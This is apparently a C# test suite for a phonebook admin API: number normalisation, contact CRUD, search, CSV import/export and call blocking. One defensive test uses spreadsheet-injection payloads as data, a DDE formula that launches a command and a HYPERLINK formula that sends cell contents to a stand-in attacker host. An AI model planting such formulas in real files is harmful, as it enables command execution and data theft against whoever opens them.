using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using CtiPush.Tests.Infrastructure;

namespace CtiPush.Tests.Phonebook;

/// <summary>The phonebook and the names it puts on calls, through the admin API. Runs on SQLite and PostgreSQL.</summary>
public abstract class PhonebookBehaviour(CtiPushApp app)
{
    protected readonly CtiPushApp App = app;
    protected readonly Pbx Pbx = new(app.CreateClient());
    protected readonly AdminApi Admin = new(app.CreateAdminClient());

    private static string UniqueName(string name) => $"{name} {Guid.NewGuid().ToString("N")[..6]}";

    private Task<JsonElement> AddContact(string name, params string[] numbers) =>
        Admin.Post("/api/v1/contacts", new { name, numbers = numbers.Select(number => new { number }).ToArray() });

    /// <summary>The call as the calls API shows it now.</summary>
    private async Task<JsonElement> CallView(string callId) =>
        (await Admin.Get($"/api/v1/calls?callId={callId}")).GetProperty("items").EnumerateArray().Single();

    private async Task<string> InboundCall(string from, string to = "4930111")
    {
        var callId = Pbx.NewCallId();
        await Pbx.Ok(Pbx.NewCall(callId, "in", from, to));
        return callId;
    }

    private Task<JsonElement> Import(string csv, int expected = 200) => Import(new StringContent(csv, Encoding.UTF8, "text/csv"), expected);

    /// <summary>The import's report, or for an expected 4xx its problem body.</summary>
    private async Task<JsonElement> Import(HttpContent file, int expected = 200)
    {
        using var client = App.CreateAdminClient();
        using var response = await client.PostAsync("/api/v1/contacts/import", file);
        var body = await response.Content.ReadAsStringAsync();
        if (expected >= 400)
        {
            return Problems.Check(response, body, expected);
        }
        Assert.True((int)response.StatusCode == expected, $"expected {expected}, got {(int)response.StatusCode}: {body}");
        return JsonDocument.Parse(body).RootElement.Clone();
    }

    private static string? Name(JsonElement call, string property) =>
        call.GetProperty(property).ValueKind == JsonValueKind.Null ? null : call.GetProperty(property).GetString();

    [Theory]
    [InlineData("+49 30 53 00 00 000", "4930530000000", "+49 30 530000000")]
    [InlineData("0049 1234 123456789", "491234123456789", "+49 1234123456789")] // possible, though no valid number: kept
    [InlineData("+49 (0) 30 60 00 00 00-0", "4930600000000", "+49 30 600000000")]
    [InlineData("030/53000000", "493053000000", "+49 30 53000000")]
    [InlineData("0271 233211", "49271233211", "+49 271 233211")]
    [InlineData("4912347114711", "4912347114711", "+49 12347114711")]
    [InlineData("+41 44 668 18 00", "41446681800", "+41 44 668 18 00")]
    [InlineData("0041 44 668 18 00", "41446681800", "+41 44 668 18 00")]
    [InlineData("+1 (650) 253-0000", "16502530000", "+1 650-253-0000")]
    [InlineData("0033 1 42 68 53 00", "33142685300", "+33 1 42 68 53 00")]
    public async Task A_contacts_number_is_stored_in_e164_whatever_way_it_was_written(string written, string normalized, string display)
    {
        var contact = await AddContact(UniqueName("Format"), written);

        var number = contact.GetProperty("numbers")[0];
        Assert.Equal(written, number.GetProperty("number").GetString());
        Assert.Equal(normalized, number.GetProperty("normalized").GetString());
        Assert.Equal(display, number.GetProperty("display").GetString());
        Assert.Equal("phone", number.GetProperty("label").GetString());
    }

    [Theory]
    [InlineData("030 abc", "is not a phone number")]
    [InlineData("+41 44 12", "is too short")]
    [InlineData("12", "does not start with a country code")]
    [InlineData("+999 1234 5678", "does not start with a country code")]
    [InlineData("", "is empty")]
    public async Task A_number_that_cannot_be_called_is_refused_with_the_reason(string written, string reason)
    {
        var problem = await Admin.Post("/api/v1/contacts", new { name = "Nobody", numbers = new[] { new { number = written } } }, 400);

        Assert.Contains(reason, problem.GetProperty("errors").GetProperty("numbers[0].number")[0].GetString());
    }

    [Fact]
    public async Task A_contact_is_created_read_changed_and_deleted()
    {
        var name = UniqueName("Anna Berg");
        var created = await Admin.Post("/api/v1/contacts", new
        {
            name,
            organisation = "Berg GmbH",
            numbers = new[] { new { number = "030 1234567", label = "phone" }, new { number = "0171 5000000", label = "Mobile" } },
            note = "Key account\nCall mornings",
        });
        var id = created.Id();

        var read = await Admin.Get($"/api/v1/contacts/{id}");
        Assert.Equal(name, read.GetProperty("name").GetString());
        Assert.Equal("Berg GmbH", read.GetProperty("organisation").GetString());
        Assert.Equal(["phone", "mobile"], read.GetProperty("numbers").EnumerateArray().Select(n => n.GetProperty("label").GetString()));

        var changed = await Admin.Put($"/api/v1/contacts/{id}", new { name, numbers = new[] { new { number = "+49 171 5000000", label = "fax" } } });
        var number = changed.GetProperty("numbers").EnumerateArray().Single();
        Assert.Equal(("491715000000", "fax"), (number.GetProperty("normalized").GetString(), number.GetProperty("label").GetString()));
        Assert.Equal(JsonValueKind.Null, changed.GetProperty("organisation").ValueKind);

        await Admin.Delete($"/api/v1/contacts/{id}");
        await Admin.Get($"/api/v1/contacts/{id}", 404);
        await Admin.Delete($"/api/v1/contacts/{id}", 404);
        await Admin.Put($"/api/v1/contacts/{id}", new { name }, 404);
    }

    [Fact]
    public async Task A_contact_without_a_name_or_with_a_number_twice_is_refused_field_by_field()
    {
        var problem = await Admin.Post("/api/v1/contacts", new
        {
            name = "  ",
            numbers = new[] { new { number = "030 1234567", label = "phone" }, new { number = "+49 30 1234567", label = "pager" } },
            note = new string('x', 1001),
        }, 400);

        var errors = problem.GetProperty("errors");
        Assert.Equal("is required.", errors.GetProperty("name")[0].GetString());
        Assert.Equal("must be phone, mobile, fax or other.", errors.GetProperty("numbers[1].label")[0].GetString());
        Assert.Equal("must be at most 1000 characters.", errors.GetProperty("note")[0].GetString());

        // The numbers themselves are compared once the request's shape holds.
        var twice = await Admin.Post("/api/v1/contacts", new
        {
            name = "Twice",
            numbers = new[] { new { number = "030 1234567", label = "phone" }, new { number = "+49 30 1234567", label = "fax" } },
        }, 400);
        Assert.Equal("is numbers[0] again.", twice.GetProperty("errors").GetProperty("numbers[1].number")[0].GetString());
    }

    [Fact]
    public async Task Contacts_are_found_by_name_organisation_or_number_in_any_format()
    {
        var tag = "tag" + Guid.NewGuid().ToString("N")[..8]; // never all digits: that would be searched as a number
        var number = Pbx.NewCallerNumber();
        var anna = (await Admin.Post("/api/v1/contacts", new { name = $"Anna {tag}", organisation = "Acme", numbers = new[] { new { number } } })).Id();
        var bert = (await Admin.Post("/api/v1/contacts", new { name = $"Bert {tag}", organisation = $"Org{tag}" })).Id();

        async Task<long[]> Found(string q) => [.. (await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(q)}&limit=500"))
            .GetProperty("items").Ids()];

        Assert.Equal([anna, bert], await Found(tag));
        Assert.Equal([anna], await Found($"ANNA {tag}"));
        Assert.Equal([bert], await Found($"org{tag}"));
        Assert.Equal([anna], await Found("+" + number));
        Assert.Equal([anna], await Found("0" + number[2..]));
        Assert.Equal([anna], await Found(number[4..]));
        var page = await Admin.Get($"/api/v1/contacts?q={tag}&limit=1&offset=1");
        Assert.Equal(2, page.GetProperty("total").GetInt32());
        Assert.Equal([bert], page.GetProperty("items").Ids());
    }

    [Theory]
    [InlineData("limit=0", "limit", "1 to 500")]
    [InlineData("limit=501", "limit", "1 to 500")]
    [InlineData("offset=-1", "offset", "0 or more")]
    [InlineData("q=a%00b", "q", "control characters")]
    public async Task A_contact_search_the_phonebook_cannot_page_gets_400_naming_the_parameter(string query, string field, string words)
    {
        var problem = await Admin.Get($"/api/v1/contacts?{query}", 400);

        Assert.Contains(words, problem.ErrorsOf(field));
    }

    [Fact]
    public async Task A_call_logged_before_its_contact_existed_is_named_once_the_contact_is_added_and_renamed_with_it()
    {
        var number = Pbx.NewCallerNumber();
        var callId = await InboundCall("0" + number[2..]);
        Assert.Null(Name(await CallView(callId), "fromName"));

        var contact = await AddContact("Carla Diaz", "+" + number);
        Assert.Equal("Carla Diaz", Name(await CallView(callId), "fromName"));

        await Admin.Put($"/api/v1/contacts/{contact.Id()}", new { name = "Carla Diaz-Ortega", numbers = new[] { new { number } } });
        var call = await CallView(callId);
        Assert.Equal("Carla Diaz-Ortega", Name(call, "fromName"));
        Assert.Null(Name(call, "toName"));
        var detail = await Admin.Get($"/api/v1/calls/{call.Id()}");
        Assert.Equal("Carla Diaz-Ortega", Name(detail.GetProperty("call"), "fromName"));
    }

    [Fact]
    public async Task An_outbound_call_names_whom_we_call()
    {
        var number = Pbx.NewCallerNumber();
        await AddContact("Dora Engel", number);
        var callId = Pbx.NewCallId();
        await Pbx.Ok(Pbx.NewCall(callId, "out", "4930111", "0" + number[2..]));

        Assert.Equal("Dora Engel", Name(await CallView(callId), "toName"));
    }

    [Fact]
    public async Task A_number_several_contacts_share_shows_all_their_names_the_most_recently_updated_first()
    {
        var number = Pbx.NewCallerNumber();
        var older = await AddContact("Reception", number);
        App.Time.Advance(TimeSpan.FromMinutes(1));
        await AddContact("Frank Gold", number);
        var callId = await InboundCall(number);
        Assert.Equal("Frank Gold, Reception", Name(await CallView(callId), "fromName"));

        App.Time.Advance(TimeSpan.FromMinutes(1));
        await Admin.Put($"/api/v1/contacts/{older.Id()}", new { name = "Reception desk", numbers = new[] { new { number } } });
        Assert.Equal("Reception desk, Frank Gold", Name(await CallView(callId), "fromName"));
    }

    [Fact]
    public async Task Anonymous_and_unparseable_callers_get_no_name_and_no_error()
    {
        foreach (var from in new[] { "anonymous", "unknown", "**31#" })
        {
            var call = await CallView(await InboundCall(from));
            Assert.Null(Name(call, "fromName"));
        }
    }

    [Fact]
    public async Task An_import_counts_its_rows_imported_updated_unchanged_and_rejected_and_lists_each_rejected_row_with_the_reason()
    {
        var existing = UniqueName("Hanna Iske");
        var existingId = (await AddContact(existing, "+49 30 5000001")).Id();
        var newcomer = UniqueName("Jonas Kurz");
        var csv = $"""
            name,organisation,number,label
            {newcomer},Kurz KG,030/53000000,phone
            {newcomer},,0171 5000002,mobile
            {existing},,+49 30 5000001,
            {existing},Iske AG,0049 40 5000003,fax
            {newcomer},,+49 30 53000000,phone
            ,Nobody,030 5000004,
            {newcomer},,030 abc,
            {newcomer},,0172 5000005,pager
            """;

        var report = await Import(csv);

        Assert.Equal((2, 1, 1, 4), (report.GetProperty("imported").GetInt32(), report.GetProperty("updated").GetInt32(),
            report.GetProperty("unchanged").GetInt32(), report.GetProperty("rejected").GetInt32()));
        var rows = report.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal([5, 6, 7, 8], rows.Select(r => r.GetProperty("row").GetInt32()));
        Assert.All(rows, r => Assert.Equal("rejected", r.GetProperty("status").GetString()));
        Assert.Equal($"repeats row 1: {newcomer} has this number once.", rows[0].GetProperty("reason").GetString());
        Assert.Equal("name is empty.", rows[1].GetProperty("reason").GetString());
        Assert.StartsWith("number '030 abc' is not a phone number", rows[2].GetProperty("reason").GetString());
        Assert.Equal("label 'pager' must be phone, mobile, fax or other.", rows[3].GetProperty("reason").GetString());

        var imported = (await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(newcomer)}")).GetProperty("items").EnumerateArray().Single();
        Assert.Equal("Kurz KG", imported.GetProperty("organisation").GetString());
        Assert.Equal(["493053000000", "491715000002"], imported.GetProperty("numbers").EnumerateArray().Select(n => n.GetProperty("normalized").GetString()));
        Assert.Equal(["phone", "mobile"], imported.GetProperty("numbers").EnumerateArray().Select(n => n.GetProperty("label").GetString()));
        var updated = await Admin.Get($"/api/v1/contacts/{existingId}");
        Assert.Equal("Iske AG", updated.GetProperty("organisation").GetString());
        Assert.Equal(2, updated.GetProperty("numbers").GetArrayLength());
    }

    [Fact]
    public async Task An_import_of_several_batches_treats_the_file_as_one_a_name_is_one_contact_and_a_repeated_row_is_found_across_batches()
    {
        var tag = "batch" + Guid.NewGuid().ToString("N")[..8];
        var anna = $"Anna {tag}";
        var csv = new StringBuilder("name,number\n");
        csv.Append($"{anna},+49 30 4100000\n"); // row 1, in the first batch
        for (var i = 2; i < 2_500; i++)
        {
            csv.Append($"Filler {tag} {i},+49 30 {4_100_000 + i}\n");
        }
        csv.Append($"{anna},+49 171 4100000\n"); // row 2,500, in the third batch: a second number of the contact row 1 made
        csv.Append($"{anna},030 4100000\n"); // row 2,501: row 1 again

        var report = await Import(csv.ToString());

        Assert.Equal((2_500, 0, 0, 1), (report.GetProperty("imported").GetInt32(), report.GetProperty("updated").GetInt32(),
            report.GetProperty("unchanged").GetInt32(), report.GetProperty("rejected").GetInt32()));
        var rejected = report.GetProperty("rows").EnumerateArray().Single();
        Assert.Equal((2_501, $"repeats row 1: {anna} has this number once."), (rejected.GetProperty("row").GetInt32(), rejected.GetProperty("reason").GetString()));
        var contact = (await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(anna)}")).GetProperty("items").EnumerateArray().Single();
        Assert.Equal(["49304100000", "491714100000"], contact.GetProperty("numbers").EnumerateArray().Select(n => n.GetProperty("normalized").GetString()));
        Assert.Equal(2_499, (await Admin.Get($"/api/v1/contacts?q={tag}&limit=1")).GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task The_report_lists_the_first_1000_rejected_rows_and_counts_them_all()
    {
        var csv = new StringBuilder("name,number\n").Insert(12, ",030 1\n", 1_500).ToString();

        var report = await Import(csv);

        Assert.Equal(1_500, report.GetProperty("rejected").GetInt32());
        var rows = report.GetProperty("rows").EnumerateArray().Select(r => r.GetProperty("row").GetInt32()).ToList();
        Assert.Equal(Enumerable.Range(1, 1_000), rows);
    }

    [Fact]
    public async Task A_blocked_contact_that_an_import_gives_a_new_number_in_a_later_batch_blocks_that_number_at_once()
    {
        var (first, second) = (Pbx.NewCallerNumber(), Pbx.NewCallerNumber());
        var name = UniqueName("Spam Importer");
        var contact = await AddContact(name, first);
        await Admin.Post("/api/v1/rules/blocked", new { contactId = contact.Id(), reason = "rejected" });
        var csv = new StringBuilder("name,number\n").Insert(12, ",\n", 1_500).Append($"{name},+{second}\n").ToString(); // row 1,501: the second batch

        var report = await Import(csv);

        Assert.Equal(1, report.GetProperty("updated").GetInt32());
        Assert.Equal("""{"action":"reject","reason":"rejected"}""", await Pbx.Ok(Pbx.NewCall(Pbx.NewCallId(), "in", second)));
    }

    [Fact]
    public async Task An_exported_phonebook_imports_back_unchanged_and_exports_the_same()
    {
        await Admin.Post("/api/v1/contacts", new
        {
            name = UniqueName("Lena \"Lu\" Maier, Dr."),
            organisation = "=Maier; Söhne",
            numbers = new[] { new { number = "+49 30 6000001", label = "phone" }, new { number = "0171 6000002", label = "mobile" } },
            note = "line one\nline two",
        });
        await Admin.Post("/api/v1/contacts", new { name = UniqueName("Otto without number") });

        var export = await Export();
        var report = await Import(export);
        Assert.Equal(0, report.GetProperty("imported").GetInt32() + report.GetProperty("updated").GetInt32() + report.GetProperty("rejected").GetInt32());
        Assert.Equal(0, report.GetProperty("rows").GetArrayLength());
        Assert.True(report.GetProperty("unchanged").GetInt32() >= 3);
        Assert.Equal(export, await Export());
        Assert.Contains("'=Maier; Söhne", export); // a spreadsheet shows it as text, and import reads it back
    }

    [Fact]
    public async Task No_cell_of_the_contacts_export_starts_a_formula_and_importing_it_gives_the_text_back()
    {
        var tag = "tag" + Guid.NewGuid().ToString("N")[..8];
        var name = $"sales;=2+5;=cmd|' /C calc'!A0 {tag}";
        const string Organisation = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\"), -1+2, @SUM(1)";
        const string Note = "line one\n=1+1\r\n\t@SUM(A1);+3| -4, '=5 \"=6\"";
        var created = await Admin.Post("/api/v1/contacts", new { name, organisation = Organisation, numbers = new[] { new { number = "+49 30 7000001" } }, note = Note });

        var export = await Export();
        SpreadsheetCells.AssertNoFormula(export);

        await Admin.Delete($"/api/v1/contacts/{created.Id()}");
        var report = await Import(export);
        Assert.Equal(0, report.GetProperty("rejected").GetInt32());
        var back = (await Admin.Get($"/api/v1/contacts?q={tag}")).GetProperty("items").EnumerateArray().Single();
        Assert.Equal(name, back.GetProperty("name").GetString());
        Assert.Equal(Organisation, back.GetProperty("organisation").GetString());
        Assert.Equal(Note, back.GetProperty("note").GetString());
        Assert.Equal("+49 30 7000001", back.GetProperty("numbers")[0].GetProperty("number").GetString());
    }

    private async Task<string> Export()
    {
        using var client = App.CreateAdminClient();
        using var response = await client.GetAsync("/api/v1/contacts/export.csv");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return await response.Content.ReadAsStringAsync();
    }

    [Fact]
    public async Task A_file_uploaded_as_a_form_with_semicolons_is_imported_too()
    {
        var name = UniqueName("Paula Quast");
        using var client = App.CreateAdminClient();
        using var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes($"Name;Number;Label\r\n{name};0221 7000001;mobile\r\n"));
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "contacts.csv");

        var report = await Import(form);

        Assert.Equal(1, report.GetProperty("imported").GetInt32());
        var found = await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(name)}");
        Assert.Equal("492217000001", found.GetProperty("items")[0].GetProperty("numbers")[0].GetProperty("normalized").GetString());
    }

    [Fact]
    public async Task A_file_that_is_not_a_phonebook_is_refused_whole()
    {
        var wrongHeader = await Import("first,last,phone\nAnna,Berg,030 1\n", 422);
        Assert.Contains("name,organisation,number,label", wrongHeader.Detail());

        var empty = await Import("", 400);
        Assert.Contains("is empty", empty.ErrorsOf("file"));
    }

    [Fact]
    public async Task A_file_of_more_than_200000_rows_is_refused_whole()
    {
        var name = UniqueName("Row");
        var csv = new StringBuilder($"name,number\n{name},\n");
        csv.Insert(csv.Length, ",\n", 200_000); // rows without a name: cheap to read, and none would be stored

        var problem = await Import(csv.ToString(), 422);

        Assert.Equal("Too many rows", problem.GetProperty("title").GetString());
        Assert.Contains("at most 200000 rows", problem.Detail());
        Assert.Equal(0, (await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(name)}")).GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task A_form_upload_cut_short_is_refused_with_400_not_a_server_error()
    {
        var problem = await Import(Form.Multipart("b0", [("file", "c.csv", "name,number\nAnna,030 1")], cutShort: true), 400);

        Assert.Equal("Bad multipart body", problem.GetProperty("title").GetString());
    }

    [Fact]
    public async Task A_form_without_a_part_is_refused_with_400_asking_for_the_file()
    {
        var problem = await Import(Form.Multipart("b0"), 400);

        Assert.Equal("No file", problem.GetProperty("title").GetString());
        Assert.Contains("holds no part", problem.Detail());
    }

    [Fact]
    public async Task A_form_whose_boundary_is_70_characters_long_is_imported()
    {
        var name = UniqueName("Boundary Seventy");

        var report = await Import(Form.Multipart(new string('b', 70), [("file", "c.csv", $"name,number\n{name},0221 7000002\n")]));

        Assert.Equal(1, report.GetProperty("imported").GetInt32());
    }

    [Theory]
    [InlineData(71)]
    [InlineData(4000)]
    public async Task A_form_whose_boundary_is_longer_than_70_characters_is_refused_with_400(int length)
    {
        var name = UniqueName("Boundary Long");

        var problem = await Import(Form.Multipart(new string('b', length), [("file", "c.csv", $"name,number\n{name},0221 7000003\n")]), 400);

        Assert.Equal("Bad multipart body", problem.GetProperty("title").GetString());
        Assert.Contains("boundary of 1 to 70 characters", problem.Detail());
        Assert.Equal(0, (await Admin.Get($"/api/v1/contacts?q={Uri.EscapeDataString(name)}")).GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task A_file_that_is_not_utf8_is_reported_row_by_row_and_its_garbled_rows_are_not_stored()
    {
        var tag = "tag" + Guid.NewGuid().ToString("N")[..8]; // never all digits: that would be searched as a number
        var latin1 = Encoding.Latin1.GetBytes($"name,number\nJürgen Öztürk {tag},030 8000001\nPlain Ascii {tag},030 8000002\n");

        var report = await Import(new ByteArrayContent(latin1));

        Assert.Equal((1, 1), (report.GetProperty("imported").GetInt32(), report.GetProperty("rejected").GetInt32()));
        var rejected = report.GetProperty("rows").EnumerateArray().Single();
        Assert.Equal(1, rejected.GetProperty("row").GetInt32());
        Assert.Contains("UTF-8", rejected.GetProperty("reason").GetString());
        var stored = (await Admin.Get($"/api/v1/contacts?q={tag}")).GetProperty("items").EnumerateArray().Select(c => c.GetProperty("name").GetString());
        Assert.Equal([$"Plain Ascii {tag}"], stored); // the row with umlauts is in the report, not in the phonebook as J\uFFFDrgen
    }

    [Fact]
    public async Task After_an_import_the_log_names_callers_whose_calls_came_in_before_it()
    {
        var (first, second) = (Pbx.NewCallerNumber(), Pbx.NewCallerNumber());
        var before = await InboundCall(first);
        var outbound = Pbx.NewCallId();
        await Pbx.Ok(Pbx.NewCall(outbound, "out", "4930111", second));

        await Import($"name,organisation,number,label\nRita Sommer,,+{first},\nSven Thal,Thal OHG,0{second[2..]},mobile\n");

        Assert.Equal("Rita Sommer", Name(await CallView(before), "fromName"));
        Assert.Equal("Sven Thal", Name(await CallView(outbound), "toName"));
        using var client = App.CreateAdminClient();
        var callsCsv = await client.GetStringAsync($"/api/v1/calls/export.csv?callId={before}");
        Assert.Contains("Rita Sommer", callsCsv);
    }

    [Fact]
    public async Task Blocking_a_contact_blocks_each_of_its_numbers_as_the_phonebook_has_them_now()
    {
        var (first, second) = (Pbx.NewCallerNumber(), Pbx.NewCallerNumber());
        var contact = await AddContact(UniqueName("Spam Caller"), first);
        var entry = await Admin.Post("/api/v1/rules/blocked", new { contactId = contact.Id(), reason = "rejected" });
        Assert.Equal(JsonValueKind.Null, entry.GetProperty("number").ValueKind);
        Assert.Equal(contact.Id(), entry.GetProperty("contactId").GetInt64());
        const string Rejected = """{"action":"reject","reason":"rejected"}""";

        Assert.Equal(Rejected, await Pbx.Ok(Pbx.NewCall(Pbx.NewCallId(), "in", "0" + first[2..])));
        Assert.Equal("{}", await Pbx.Ok(Pbx.NewCall(Pbx.NewCallId(), "in", second)));

        await Admin.Put($"/api/v1/contacts/{contact.Id()}", new { name = "Spam Caller", numbers = new[] { new { number = first }, new { number = second } } });
        Assert.Equal(Rejected, await Pbx.Ok(Pbx.NewCall(Pbx.NewCallId(), "in", second)));

        await Admin.Delete($"/api/v1/contacts/{contact.Id()}");
        Assert.Equal("{}", await Pbx.Ok(Pbx.NewCall(Pbx.NewCallId(), "in", first)));
        await Admin.Get($"/api/v1/rules/blocked/{entry.Id()}", 404);
    }

    [Fact]
    public async Task A_block_entry_names_either_a_number_or_an_existing_contact()
    {
        var both = await Admin.Post("/api/v1/rules/blocked", new { number = "030 1", contactId = 1 }, 400);
        Assert.True(both.GetProperty("errors").TryGetProperty("number", out _));
        var unknown = await Admin.Post("/api/v1/rules/blocked", new { contactId = long.MaxValue }, 400);
        Assert.Contains("names no contact", unknown.GetProperty("errors").GetProperty("contactId")[0].GetString());
    }

    [Fact]
    public async Task The_phonebook_is_for_admins_only()
    {
        using var anonymous = App.CreateClient();
        Assert.Equal(System.Net.HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/v1/contacts")).StatusCode);
        Assert.Equal(System.Net.HttpStatusCode.Unauthorized, (await anonymous.PostAsync("/api/v1/contacts/import", new StringContent("name,number", Encoding.UTF8, "text/csv"))).StatusCode);
        Assert.Equal(System.Net.HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/v1/contacts/export.csv")).StatusCode);
    }
}

public sealed class PhonebookOnSqlite(SqliteApp app) : PhonebookBehaviour(app), IClassFixture<SqliteApp>;

public sealed class PhonebookOnPostgres(PostgresApp app) : PhonebookBehaviour(app), IClassFixture<PostgresApp>;
